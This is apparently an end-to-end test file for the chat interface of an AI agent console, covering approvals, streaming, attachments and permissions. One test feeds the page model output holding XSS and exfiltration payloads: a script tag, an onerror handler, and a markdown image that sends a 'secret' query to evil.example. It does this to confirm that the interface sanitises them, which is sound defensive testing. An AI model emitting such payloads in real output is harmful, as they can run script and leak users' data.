import type { Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { fakeModel, startFakeModel } from '../../test/chat/fake-model.ts'
import type { ModelAnswer, ModelRequest } from '../../test/chat/fake-model.ts'
import { look } from './setup/look.ts'
import { hasChromium } from './setup/open-browser.ts'
import { openConsole } from './setup/open-console.ts'
import type { OpenConsole } from './setup/open-console.ts'
import { signInAs } from './setup/sign-in-as.ts'
import { visit } from './setup/visit.ts'
import { exampleTools, writeConfig } from './setup/write-config.ts'

const hostile = [
  '# Done <script>window.hit = 1</script>',
  '<img src="https://evil.example/a.png?secret=1" onerror="window.hit = 1">',
  '![picture](https://evil.example/b.png?secret=2)',
  '[press me](javascript:window.hit=1) and [leave](https://evil.example/page)',
].join('\n\n')

const story = Array.from({ length: 80 }, (_, word) => `word${word}`).join(' ')

/** The model's answers, by the last question. */
function answer({ messages }: ModelRequest): ModelAnswer {
  const asked = messages.findLast(({ role }) => role === 'user')
  const text = JSON.stringify(asked?.content ?? '')
  if (text.includes('hostile')) return { text: hostile }
  if (text.includes('story')) return { text: story, delayMs: 120 }
  if (text.includes('broken')) return { status: 401 }
  if (text.includes('image_url') || text.includes('picture')) return { text: 'A small picture.' }
  return { text: 'I am **here**.' }
}

const demoTools = { allow: ['demo.*', 'analysis.*', 'agents.spawn'] }

describe.skipIf(!hasChromium)('chat', () => {
  let crib: OpenConsole
  let model: Awaited<ReturnType<typeof startFakeModel>>
  beforeAll(async () => {
    model = await startFakeModel((request) => answer(request))
    const config = await writeConfig({
      tools: [exampleTools],
      models: model.config.models,
      limits: { nodeTimeoutMs: 5000 },
      agents: [
        {
          slug: 'helper',
          name: 'Helper',
          description: 'Follows plain orders.',
          model: 'demo',
          tools: demoTools,
          hooks: { confirm: ['demo.delete-notes'] },
        },
        { slug: 'talker', name: 'Talker', model: fakeModel, tools: demoTools },
        { slug: 'mute', name: 'Mute', model: 'openai/gpt-test', tools: demoTools },
      ],
    })
    crib = await openConsole({ config, env: { OPENAI_API_KEY: '' } })
  })
  // A browser has six connections to a server; a page that is left open keeps some.
  afterEach(() => Promise.all(crib.context.pages().map((page) => page.close())))
  afterAll(async () => {
    await crib.close()
    await model.close()
  })

  const box = (page: Page) => page.getByRole('textbox', { name: 'Message' })
  const button = (page: Page, name: string | RegExp) => page.getByRole('button', { name })
  /** The turn is over: another answer can be asked for. */
  const ended = (page: Page) => button(page, 'Regenerate').waitFor()
  async function say(page: Page, words: string): Promise<void> {
    await box(page).fill(words)
    await box(page).press('Enter')
  }
  /** Takes out what pages were expected to complain about. */
  function forgive(expected: RegExp): void {
    crib.faults.splice(0, Infinity, ...crib.faults.filter((fault) => !expected.test(fault)))
  }
  const noteCount = async () => {
    const made = await crib.server.request('/api/v1/tools/demo.list-notes/calls', {
      json: { input: {} },
    })
    return ((await made.json()) as { output: { total: number } }).output.total
  }

  test('one chooses an agent, begins with what it can do, and reads what it does', async () => {
    const page = await crib.open('/chat')
    await page.getByRole('link', { name: 'Helper' }).waitFor()
    await page.getByText('can’t answer').waitFor()
    await look(page, 'chat-agents')
    await page.getByRole('link', { name: 'Helper' }).click()
    await page.getByRole('heading', { name: /^What should .* do\?$/ }).waitFor()
    await look(page, 'chat-begin')
    await button(page, /AI readiness/).click()
    expect(await box(page).inputValue()).toMatch(/^run analysis.ai-readiness with/)
    await box(page).press('Shift+Enter')
    expect(await box(page).inputValue()).toMatch(/\n$/)
    await box(page).press('Control+Enter')
    await page.waitForURL(/\/chat\/helper\/conv_/)
    await ended(page)
    const card = page.getByRole('article', { name: 'Call of analysis.ai-readiness' })
    await card.getByText('Done').waitFor()
    // It opens by itself: the tool declares how its result is drawn.
    await card.getByRole('link', { name: 'Open call' }).waitFor()
    await card.locator('.recharts-surface').first().waitFor()
    await card.getByRole('columnheader').first().waitFor()
    expect(await card.getByRole('tree').count()).toBe(0)
    await look(page, 'chat-result')
  })

  test('the agent’s tools are listed, a draft is kept, and a conversation can be deleted', async () => {
    const page = await crib.open('/chat/helper')
    await say(page, 'hello')
    await ended(page)
    await button(page, 'Tools').click()
    const panel = page.getByRole('dialog', { name: 'Tools of helper' })
    await panel.getByText('Delete notes').waitFor()
    await panel.getByText('Ask', { exact: true }).waitFor()
    await look(page, 'chat-tools')
    await page.keyboard.press('Escape')
    // A draft is kept for its conversation.
    await box(page).fill('not sent yet')
    await page.reload()
    await expect.poll(() => box(page).inputValue()).toBe('not sent yet')
    await page.getByRole('link', { name: 'New conversation' }).click()
    await page.getByRole('heading', { name: /^What should .* do\?$/ }).waitFor()
    await page.goBack()
    await button(page, 'Delete hello').click()
    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click()
    await page.waitForURL(/\/chat\/helper\/?$/)
    // Its page may have asked for it once more.
    forgive(/404/)
  })

  test('an approval is decided in the chat, and the reason reaches the agent', async () => {
    const page = await crib.open('/chat/helper')
    await say(page, 'run demo.delete-notes with {"ids":["note_a"],"dryRun":true}')
    await button(page, 'Approve and run').waitFor()
    await look(page, 'chat-asks')
    await button(page, 'Approve and run').click()
    await page.getByText('Delete notes returned').waitFor()
    await ended(page)
    await say(page, 'run demo.delete-notes with {"ids":["note_b"],"dryRun":true}')
    await page.getByRole('textbox', { name: 'Reason' }).fill('Keep that one')
    await button(page, 'Reject with this reason').click()
    await page.getByText(/Delete notes (?:was not run|failed).*Keep that one/).waitFor()
    await page.getByText('Rejected', { exact: true }).waitFor()
    await ended(page)
    await look(page, 'chat-rejected')
  })

  test('a card follows the decision of someone else, and shows an edit', async () => {
    const page = await crib.open('/chat/helper')
    await say(page, 'run demo.delete-notes with {"ids":["note_c"],"dryRun":true}')
    await button(page, 'Approve and run').waitFor()
    const list = await crib.server.request('/api/v1/approvals?status=pending&limit=1')
    const [{ id }] = ((await list.json()) as { items: [{ id: string }] }).items
    const decided = await crib.server.request(`/api/v1/approvals/${id}/decision`, {
      json: { decision: 'approve', input: { ids: ['note_d'], dryRun: true } },
    })
    expect(decided.status).toBe(200)
    await ended(page)
    // Open by itself: the result is drawn.
    await page.getByText('Input, edited by a person').waitFor()
  })

  test('stopping ends the turn on the server, and its text stays', async () => {
    const page = await crib.open('/chat/talker')
    await say(page, 'tell me a story')
    await page.getByText('word3').waitFor()
    await button(page, 'Stop').click()
    await page.getByText('Stopped.').waitFor()
    expect(await page.getByText('word79').count()).toBe(0)
    const runs = await crib.server.request('/api/v1/runs?agent=talker&limit=1')
    expect(await runs.json()).toMatchObject({ items: [{ status: 'cancelled' }] })
    await look(page, 'chat-stopped')
  })

  test('a broken stream resumes without repeating text, in two tabs as well', async () => {
    const page = await crib.open('/chat/talker')
    await say(page, 'another story')
    await page.getByText('word3').waitFor()
    const other = await crib.open(new URL(page.url()).pathname)
    await other.getByText('word5').waitFor()
    await crib.context.setOffline(true)
    await page.getByText('Connection lost. The agent keeps running on the server…').waitFor()
    await crib.context.setOffline(false)
    await ended(page)
    await ended(other)
    for (const tab of [page, other]) {
      const text = await tab.getByRole('article', { name: 'Answer from talker' }).innerText()
      expect(text.trim()).toBe(story)
    }
    // The browser's errors about the cut are expected.
    forgive(/ERR_|Failed to load resource/)
  })

  test('a server that is killed in the middle continues the turn when it is back', async () => {
    const page = await crib.open('/chat/talker')
    await say(page, 'a third story')
    await page.getByText('word3').waitFor()
    await crib.restart(() => page.getByText('Connection lost.').waitFor())
    await button(page, 'Regenerate').waitFor()
    const text = await page.getByRole('article', { name: 'Answer from talker' }).innerText()
    expect(text.trim()).toBe(story)
    forgive(/ERR_|Failed to load resource/)
  })

  test('files go along and are shown, and one that can not is named', async () => {
    const page = await crib.open('/chat/talker')
    const chooser = page.waitForEvent('filechooser')
    await button(page, 'Attach files').click()
    const png = Buffer.from(
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
      'base64',
    )
    await (
      await chooser
    ).setFiles([
      { name: 'dot.png', mimeType: 'image/png', buffer: png },
      { name: 'page.html', mimeType: 'text/html', buffer: Buffer.from('<b>x</b>') },
    ])
    await page.getByText('page.html is not a type agents can read').waitFor()
    await page.getByRole('list', { name: 'Attached files' }).getByText('dot.png').waitFor()
    await box(page).hover()
    await look(page, 'chat-attached')
    await say(page, 'what is in the picture?')
    await page.getByText('A small picture.').waitFor()
    await ended(page)
    const picture = page.getByRole('img', { name: 'dot.png' })
    await expect.poll(() => picture.getAttribute('src')).toMatch(/^blob:/)
    await page.reload()
    await expect.poll(() => picture.getAttribute('src')).toMatch(/^blob:/)
  })

  test('output of a model runs nothing, fetches nothing, and links show their target', async () => {
    const page = await crib.open('/chat/talker')
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await say(page, 'say something hostile')
    await page.getByRole('heading', { name: /Done/ }).waitFor()
    await ended(page)
    expect(asked.filter((url) => url.includes('evil.example'))).toEqual([])
    expect(await page.evaluate(() => 'hit' in window)).toBe(false)
    const answerHtml = page.getByRole('article', { name: 'Answer from talker' })
    expect(await answerHtml.locator('img, script, [onerror]').count()).toBe(0)
    expect(await answerHtml.locator('a[href^="javascript"]').count()).toBe(0)
    await look(page, 'chat-hostile')
  })

  test('errors are shown with their fix', async () => {
    const page = await crib.open('/chat/talker')
    await say(page, 'you are broken')
    await page.getByText(/it answered 401/).waitFor()
    await page.getByText('Check the key of this provider in the secrets.').waitFor()
    await look(page, 'chat-model-failed')
    await visit(page, '/chat/mute')
    await page.getByText('There is no key for models of openai').waitFor()
    await page.getByRole('link', { name: 'Add secret openai_api_key' }).waitFor()
    expect(await button(page, 'Send').isDisabled()).toBe(true)
    await look(page, 'chat-no-model')
    await visit(page, '/chat/helper/conv_00000000000000000000000000000000')
    await page.getByText('There is no conversation').waitFor()
    await look(page, 'chat-not-found')
    forgive(/404/)
  })

  test('agents that are sent out are read one by one, and what they ask is asked here', async () => {
    const page = await crib.open('/chat/helper')
    const before = await noteCount()
    const tasks = [
      { prompt: 'run demo.add-note with text="one"' },
      { prompt: 'run demo.delete-notes with {"ids":["note_x"],"dryRun":true}' },
    ]
    await say(
      page,
      `run agents.spawn with ${JSON.stringify({ tasks, maxSteps: null, maxTokens: null })}`,
    )
    await page.getByText('Requested by a sub-agent').waitFor()
    await look(page, 'chat-sent-out')
    await button(page, 'Approve and run').click()
    await ended(page)
    await page
      .getByRole('article', { name: 'Call of agents.spawn' })
      .getByRole('button')
      .first()
      .click()
    await page.getByText('Agent 2', { exact: true }).waitFor()
    await look(page, 'chat-came-back')
    expect(await noteCount()).toBe(before + 1)
  })

  test('a member chats, sees who must decide, and people without the permission see a notice', async () => {
    const member = await signInAs(crib, { name: 'mia', role: 'member' })
    const page = await member.newPage()
    await page.goto(`${crib.server.url}/chat/helper`)
    await say(page, 'run demo.delete-notes with {"ids":["note_m"],"dryRun":true}')
    await page.getByText(/It needs someone with the permission approvals.decide/).waitFor()
    await page.getByText('waiting for approval. Stop it to send another message.').waitFor()
    await look(page, 'chat-member')
    await member.close()
    // People who decide can read along, and are offered no actions that only the member has.
    const deciding = await crib.open('/approvals')
    await button(deciding, 'Reject').click()
    await deciding.getByRole('link', { name: 'Open conversation' }).click()
    await deciding.getByText('This conversation belongs to mia. It is read-only.').waitFor()
    await deciding.getByText('Rejected', { exact: true }).waitFor()
    // The turn is over, so its owner could ask for another answer.
    await deciding.getByText(/^Delete notes failed/).waitFor()
    await deciding.reload()
    await deciding.getByText(/^Delete notes failed/).waitFor()
    expect(await button(deciding, 'Regenerate').count()).toBe(0)
    expect(await box(deciding).count()).toBe(0)
    await look(deciding, 'chat-of-another')
    const auditor = await signInAs(crib, { name: 'ada', role: 'auditor' })
    const other = await auditor.newPage()
    await other.goto(`${crib.server.url}/chat`)
    await other.getByText('You don’t have access to this').waitFor()
    await look(other, 'chat-not-allowed')
    await auditor.close()
  })
})
